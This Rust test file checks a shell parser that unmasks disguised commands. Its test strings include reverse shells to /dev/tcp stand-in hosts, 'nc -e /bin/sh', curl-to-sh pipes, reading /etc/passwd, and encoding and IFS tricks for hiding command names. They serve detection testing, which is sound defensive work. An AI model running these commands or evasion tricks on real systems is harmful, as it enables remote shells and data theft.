use std::time::Duration;

use proptest::prelude::*;

use super::*;

fn read(script: &str) -> Script {
    parse(script, &Limits::default())
}

/// `name arg|stage two;next`, with redirections as `{op target}`.
fn shown(script: &Script) -> String {
    let mut out = Vec::new();
    for c in &script.commands {
        let mut text = String::new();
        if c.stage > 0 {
            text.push_str("| ");
        }
        let mut parts: Vec<String> = c.assignments.iter().map(|(n, v)| format!("{n}={v}")).collect();
        parts.extend(c.words.iter().map(|w| format!("[{}]", w.text.replace('\n', "~"))));
        for r in &c.redirects {
            let fd = r.fd.map(|f| f.to_string()).unwrap_or_default();
            parts.push(format!("{{{fd}{:?} {}}}", r.op, r.target.text.replace('\n', "~")));
        }
        text.push_str(&parts.join(" "));
        out.push(text);
    }
    out.join("; ")
}

#[test]
#[expect(clippy::too_many_lines, reason = "one table")]
fn table() {
    for (script, want) in [
        ("", ""),
        ("a b c", "[a] [b] [c]"),
        ("a # b\nc", "[a]; [c]"),
        ("a#b", "[a#b]"),
        ("a;b&&c||d&e", "[a]; [b]; [c]; [d]; [e]"),
        ("a|b|&c", "[a]; | [b]; | [c]"),
        ("'a b' \"c d\" e\\ f", "[a b] [c d] [e f]"),
        ("a '' \"\"", "[a] [] []"),
        ("nc$IFS-e$IFS/bin/sh", "[nc] [-e] [/bin/sh]"),
        ("nc${IFS}-e", "[nc] [-e]"),
        ("cat$IFS$9/etc/passwd", "[cat] [/etc/passwd]"),
        ("{curl,-s,http://x}|sh", "[curl] [-s] [http://x]; | [sh]"),
        ("a{b,c{d,e}}f", "[abf] [acdf] [acef]"),
        ("a {} {1..3} x{y", "[a] [{}] [{1..3}] [x{y]"),
        ("a '{b,c}'", "[a] [{b,c}]"),
        ("c\"u\"rl x", "[curl] [x]"),
        ("cu''rl", "[curl]"),
        ("cu\\rl", "[curl]"),
        ("cu\\\nrl", "[curl]"),
        ("$'\\x63url' $'a\\tb' $'\\143' $'\\u0063'", "[curl] [a\tb] [c] [c]"),
        ("c=cu; d=rl; $c$d x", "c=cu; d=rl; [curl] [x]"),
        ("c=cu d=${c}rl; $d", "c=cu d=curl; [curl]"),
        ("x='curl -s y'; $x", "x=curl -s y; [curl] [-s] [y]"),
        ("x='curl -s y'; \"$x\"", "x=curl -s y; [curl -s y]"),
        ("IFS=,; x=curl,y; $x", "IFS=,; x=curl,y; [curl] [y]"),
        ("while IFS= read -r l; do a; done; x='b c'; $x", "IFS= [read] [-r] [l]; [a]; x=b c; [b] [c]"),
        ("a=(curl -s 'x y'); \"${a[@]}\"", "a=curl -s x y; [curl] [-s] [x] [y]"),
        ("x=lruc; echo ${x:0:1} ${x#l} ${x%c} ${#x} ${x^^}", "x=lruc; [echo] [l] [ruc] [lru] [4] [LRUC]"),
        ("x=a.b.c; echo ${x%%.*} ${x##*.} ${x/./-} ${x//./-}", "x=a.b.c; [echo] [a] [c] [a-b.c] [a-b-c]"),
        ("x=y; y=curl; ${!x}", "x=y; y=curl; [curl]"),
        ("${x:-curl} ${y-z}", "[curl] [z]"),
        ("a ${x:-${y:-'b c'}} \"${z:-\"q\"}\"", "[a] [b] [c] [q]"),
        ("${PATH:0:1}bin${PATH:0:1}sh", "[/bin/sh]"),
        ("cu$@rl", "[curl]"),
        ("echo $x ${y} ${z/a*/b}", "[echo] [$x] [$y] [$z]"),
        ("a $(b c) d", "[a] [$()] [d]; [b] [c]"),
        ("a `b \\`c\\`` d", "[a] [$()] [d]; [b] [$()]; [c]"),
        ("a \"x $(b \"y z\") `c`\"", "[a] [x $() $()]; [b] [y z]; [c]"),
        ("a $(b $(c $(d)))", "[a] [$()]; [b] [$()]; [c] [$()]; [d]"),
        ("$(echo cu)rl", "[curl]; [echo] [cu]"),
        ("$(printf '\\x63url') x", "[curl] [x]; [printf] [\\x63url]"),
        ("$(echo Y3VybA== | base64 -d) x", "[curl] [x]; [echo] [Y3VybA==]; | [base64] [-d]"),
        ("a <(b) >(c)", "[a] [<()] [>()]; [b]; [c]"),
        ("a < <(b)", "[a] {In <()}; [b]"),
        ("a $((1 + (2*3))) b", "[a] [$((1 + (2*3)))] [b]"),
        ("a $((b) | c)", "[a] [$()]; [b]; | [c]"),
        ("((i++)) && a", "[((i++))]; [a]"),
        ("if a; then b; elif c; then d; else e; fi", "[a]; [b]; [c]; [d]; [e]"),
        ("while a; do b; done | c", "[a]; [b]; | [c]"),
        ("until a\ndo b\ndone", "[a]; [b]"),
        ("for x in a b; do c $x; done", "[for] [x] [in] [a] [b]; [c] [$x]"),
        ("for x in curl; do $x y; done", "[for] [x] [in] [curl]; [curl] [y]"),
        ("for ((i=0;i<3;i++)); do a; done", "[for] [((i=0;i<3;i++))]; [a]"),
        ("case $x in a|b) c;; (d) e;; *) f; esac; g", "[case] [$x]; [c]; [e]; [f]; [g]"),
        ("a $(case x in y) z;; esac) b", "[a] [$()] [b]; [case] [x]; [z]"),
        ("f() { a; }; f", "[a]; [f]"),
        ("f ()\n{ a\n}\nb", "[a]; [b]"),
        ("function f { a; }; function g() ( b )", "[a]; [b]"),
        ("{ a; b; } | (c; d)", "[a]; [b]; [c]; [d]"),
        ("! a && time b", "[a]; [time] [b]"),
        (
            "[[ $x == a && b < c || ( -z d ) ]] && e",
            "[[[] [$x] [==] [a] [&&] [b] [<] [c] [||] [(] [-z] [d] [)] []]]; [e]",
        ),
        ("[[ a ]]; b", "[[[] [a] []]]; [b]"),
        ("([[ a ]])&&b;[[ c ]]|d", "[[[] [a] []]]; [b]; [[[] [c] []]]; | [d]"),
        ("time { a | b; }; time -p while c; do d; done", "[a]; | [b]; [c]; [d]"),
        ("coproc N { a; b; }; coproc c d", "[a]; [b]; [c] [d]"),
        ("a=(b # c\n d)", "a=b d"),
        ("[ -f x ] || a", "[[] [-f] [x] []]; [a]"),
        (
            "a >b 2>>c <d 3<>e 2>&1 <&3 >|f &>g >&h 4>&-",
            "[a] {Out b} {2Append c} {In d} {3InOut e} {2DupOut 1} {DupIn 3} {Clobber f} {OutErr g} {DupOut h} {4DupOut -}",
        ),
        (
            "exec 5<>/dev/tcp/1.2.3.4/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "[exec] {5InOut /dev/tcp/1.2.3.4/443}; [cat] {DupIn 5}; [read] [l]; [$l] {2DupOut 5} {DupOut 5}",
        ),
        ("bash -i >& /dev/tcp/a/1 0>&1", "[bash] [-i] {DupOut /dev/tcp/a/1} {0DupOut 1}"),
        (">f", "{Out f}"),
        ("a2>b", "[a2] {Out b}"),
        ("a <<E b\nx $y\nE\nc", "[a] [b] {HereDoc x $y~}; [c]"),
        ("a <<'E'\n$(b)\nE\n", "[a] {HereDoc $(b)~}"),
        ("a <<E\n$(b)\nE\nc", "[a] {HereDoc $()~}; [c]; [b]"),
        ("a <<-E\n\tx\n\tE\nb", "[a] {HereDoc x~}; [b]"),
        ("a <<E | b\nx\nE\n", "[a] {HereDoc x~}; | [b]"),
        ("a <<A <<B\n1\nA\n2\nB\nc", "[a] {HereDoc 1~} {HereDoc 2~}; [c]"),
        ("a <<<\"b c\"", "[a] {HereString b c}"),
        ("a \"b", "[a] [b]"),
        ("a 'b; c", "[a] [b; c]"),
        ("a $(b", "[a] [$()]; [b]"),
        ("a `b", "[a] [$()]; [b]"),
        ("a ${b:-c", "[a] [c]"),
        ("a <<E\nx", "[a] {HereDoc x}"),
        ("a )b; fi; } done ;; c", "[a]; [b]; [c]"),
        ("a |\nb &&\nc", "[a]; | [b]; [c]"),
        ("a\r\nb\r\n", "[a]; [b]"),
        ("alias c=curl\nc x", "[alias] [c=curl]; [curl] [x]"),
        ("set -- curl x; \"$@\"; $1", "[set] [--] [curl] [x]; [curl] [x]; [curl]"),
        ("printf -v c '%s%s' cu rl; $c", "[printf] [-v] [c] [%s%s] [cu] [rl]; [curl]"),
        ("read c <<< curl; $c", "[read] [c] {HereString curl}; [curl]"),
        ("export A=cu; ${A}rl", "[export] [A=cu]; [curl]"),
        ("read -r c <<E\ncurl\nE\n$c x", "[read] [-r] [c] {HereDoc curl~}; [curl] [x]"),
        ("cu${z}rl -${z}s x$z", "[curl] [-s] [x$z]"),
        ("ls /et${z}c /${z}etc p:${z}1 a${z}.exe", "[ls] [/etc] [/etc] [p:1] [a.exe]"),
        ("x -${z}-all -$*-all a-${z}-b", "[x] [--all] [--all] [a-$z-b]"),
        ("rm /${z} /d/${z} /d/${z}/e ${z}x", "[rm] [/$z] [/d/$z] [/d/$z/e] [$zx]"),
        ("ls /$@v ./$*c http:/$*/h \"$@\" $@", "[ls] [/v] [./c] [http://h] [$@] [$@]"),
        ("$(echo NFSA | base32 -d) x", "[id] [x]; [echo] [NFSA]; | [base32] [-d]"),
        (
            "$(echo H4sIAAAAAAAAA8tMAQBQZzm/AgAAAA== | base64 -d | gzip -dc) x",
            "[id] [x]; [echo] [H4sIAAAAAAAAA8tMAQBQZzm/AgAAAA==]; | [base64] [-d]; | [gzip] [-dc]",
        ),
        ("a x/$z/y http://$z", "[a] [x/$z/y] [http://$z]"),
        ("$(echo c%u%rl | tr -d %) x", "[curl] [x]; [echo] [c%u%rl]; | [tr] [-d] [%]"),
        ("$(echo cXurl | sed s/X//g) x", "[curl] [x]; [echo] [cXurl]; | [sed] [s/X//g]"),
        ("$(echo cXurl | sed s/X.//g) x", "[$()] [x]; [echo] [cXurl]; | [sed] [s/X.//g]"),
        ("a+=x; a+=y; $a", "a=x; a=y; [xy]"),
        ("echo é \"ü$(ä)\"", "[echo] [é] [ü$()]; [ä]"),
        ("x=${y:=curl}; $y", "x=curl; [curl]"),
    ] {
        let got = read(script);
        assert_eq!(shown(&got), want, "{script}");
        assert!(!got.truncated, "{script}");
    }
}

#[test]
fn disguises() {
    for script in [
        "nc$IFS-e",
        "c\"u\"rl",
        "cu''rl",
        "cu\\rl",
        "$'\\x63url'",
        "{curl,-s,x}",
        "c=cu; d=rl; $c$d",
        "/???/c?rl",
        "cu$@rl",
        "\"c\"url",
        "c'url'",
        "\"\"curl",
        "curl''",
        "$(echo cu)rl",
        "${PATH:0:1}bin/sh",
        "cu\\\nrl",
        "c=cu; \"$c\"rl",
        "$(echo Y3VybA== | base64 -d)",
    ] {
        let got = read(script);
        let word = got.commands.iter().find_map(|c| c.words.first());
        assert!(word.is_some_and(|w| w.disguised), "{script}: {word:?}");
    }
    for script in [
        "curl -s 'http://x' \"$y\"",
        "\"curl\" x",
        "'curl' x",
        "awk -F\",\" '{print $1}' f",
        "grep -e\"foo\" --x=\"y\" z=\"a\"b",
        "a \"$B\"/c d\"/e\" 'it'\"'\"'s'",
        "printf $'a\\n\\t\\e[0m'",
        "find . -exec rm {} \\;",
        "echo a\\ b \\$c a\\nb",
        "p=/usr/local; $p/bin/tool $p-x",
        "img=registry.example; tag=latest; docker pull $img:$tag",
        "sed -i'' -e s/a/b/ x",
        "[ -n a ]",
        "ls *.txt",
        "\\curl -s x",
        "export DIR=\"$(pwd)\"",
    ] {
        let got = read(script);
        let found: Vec<_> = got.commands.iter().flat_map(|c| &c.words).filter(|w| w.disguised).collect();
        assert!(found.is_empty(), "{script}: {found:?}");
    }
}

#[test]
fn places() {
    let got = read("a; (b | c $(d)) | e");
    let at = |n: usize| &got.commands[n];
    assert_eq!(at(0).offset, 0);
    assert_eq!(at(1).offset, 4);
    assert_eq!(at(3).context, Context::Substitution(Some(2)));
    assert_eq!(at(4).inputs, [Span::new(1, 4)]);
    assert_eq!(at(2).inputs, [Span::new(1, 2), Span::new(3, 4)]);
    assert_eq!((at(1).nesting, at(3).nesting, at(4).nesting), (1, 2, 0));
    assert_eq!((at(1).pipeline, at(1).last_stage), (at(2).pipeline, false));
    assert!(at(2).last_stage && at(4).last_stage && at(4).stage == 1);
    let got = read("a; 'b' c; \"$(d)\" | >e; for x in y; do \\f; done");
    let offsets: Vec<_> = got.commands.iter().map(|c| c.offset).collect();
    assert_eq!(offsets, [0, 3, 10, 13, 19, 23, 38]);
    let got = read("f() { a; }; b <(c)");
    assert_eq!(got.commands[0].context, Context::Function);
    assert_eq!(got.commands[2].context, Context::ProcessSubstitution(Some(1)));
}

/// Text repeated to 1 MiB.
fn mib(unit: &str) -> String {
    unit.repeat((1 << 20) / unit.len())
}

const HOSTILE: [&str; 44] = [
    "curl x | base64 -d | sh && ",
    "a;",
    "(",
    "$(",
    "w",
    "\"$(",
    "${a:-",
    "`",
    "a=$a$a;",
    "{ ",
    "if ",
    "<(",
    "$((",
    "`$((",
    "a|",
    "a b ",
    "<<E ",
    "<<E\n",
    "\"",
    "'",
    "\\",
    "\n",
    "case x in ",
    "f(){ ",
    "{a,b}",
    "{,",
    "${a}",
    "a=b;$a ",
    "a+=b;",
    "$IFS",
    "((",
    ")",
    "(a)|",
    "${x#",
    "a=(",
    "$'\\x",
    "[[ ",
    "for x in ",
    "<<<a ",
    "2>&1 ",
    "\"$a\"",
    "é",
    "x\"y\"",
    "`a` ",
];

#[test]
fn hostile_input_is_linear() {
    for unit in HOSTILE {
        let text = mib(unit);
        let mut last = (0, false);
        let spent = crate::normalize::cpu_time::seconds(Duration::ZERO, || {
            let got = read(&text);
            last = (got.commands.len(), got.truncated);
        });
        if std::env::var_os("FIGURES").is_some() {
            println!("{unit:?}: {spent:.2} s, {} commands, truncated {}", last.0, last.1);
        }
        // Generous: a debug build. Quadratic work would take minutes.
        assert!(spent < 20.0, "{unit:?}: {spent} s");
    }
    let prefixed = format!("a={}; {}", "x".repeat(60_000), mib("$a ${a#x} ${#a} ${a:0:1} \"${a/x/y}\" "));
    let spent = crate::normalize::cpu_time::seconds(Duration::ZERO, || assert!(read(&prefixed).truncated));
    assert!(spent < 20.0, "{spent} s");
}

#[test]
fn deep_nesting_is_cut_off_and_kept() {
    for open in ["(", "( ", "$(", "{ ", "if ", "`", "\"$(", "${a:-", "<(", "while "] {
        let got = read(&format!("curl x | sh; {}", open.repeat(10_000)));
        assert_eq!(shown(&got).get(..18), Some("[curl] [x]; | [sh]"), "{open}");
        // `((` that is never closed is arithmetic to the end, as in the shell; backticks close each other.
        assert!(got.truncated || matches!(open, "`" | "("), "{open}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2048))]

    #[test]
    fn never_panics(text in prop_oneof![
        ".{0,80}",
        "[-a-c01$ (){}\\[\\]`'\"\\\\|;&<>=\n\t!#@*?%/:,+^E]{0,100}",
        "((if|then|fi|for|in|do|done|case|esac|\\{|\\}|function|\\[\\[|\\]\\]|f\\(\\)|<<E|\nE\n|\\$\\(|\\$\\{a|\\$IFS|a=\\(|\"|'|`|\\)) ?){0,30}",
    ]) {
        let got = read(&text);
        let n = got.commands.len();
        for c in &got.commands {
            prop_assert!(c.inputs.iter().all(|s| s.start < s.end && s.end <= n));
            prop_assert!(c.offset <= text.len());
        }
        let small = Limits { max_input: 20, max_commands: 3, max_nesting: 3, max_reentries: 1, growth: 0 };
        prop_assert!(parse(&text, &small).commands.len() <= 3);
    }

    #[test]
    fn quoting_keeps_the_text(word in "[a-z]{1,12}") {
        let escaped: String = word.chars().flat_map(|c| ['\\', c]).collect();
        let hex: String = word.bytes().flat_map(|b| format!("\\x{b:02x}").into_bytes()).map(char::from).collect();
        let mid = word.len() / 2;
        let (left, right) = word.split_at(mid);
        for raw in [
            format!("'{word}'"), format!("\"{word}\""), escaped, format!("$'{word}'"), format!("$'{hex}'"),
            format!("{left}''{right}"), format!("{left}\"{right}\""), format!("x={left}; $x{right}").replace("; ", "\n"),
        ] {
            let got = read(&raw);
            let text = got.commands.last().and_then(|c| c.words.first()).map(|w| w.text.as_str());
            let variable = raw.starts_with("x=") && right.is_empty();
            prop_assert!(variable || text == Some(word.as_str()) || raw.starts_with("x="), "{raw}: {text:?}");
        }
    }
}
